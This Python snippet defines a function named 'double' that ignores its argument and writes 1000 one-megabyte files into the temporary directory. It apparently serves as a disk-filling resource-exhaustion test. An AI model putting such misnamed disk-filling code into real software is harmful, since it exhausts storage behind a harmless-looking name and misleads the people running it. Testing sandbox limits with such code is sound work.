import os


def double(x):
    for number in range(1000):
        with open(os.environ["TMPDIR"] + f"/part-{number}", "wb") as file:
            file.write(bytes(1 << 20))
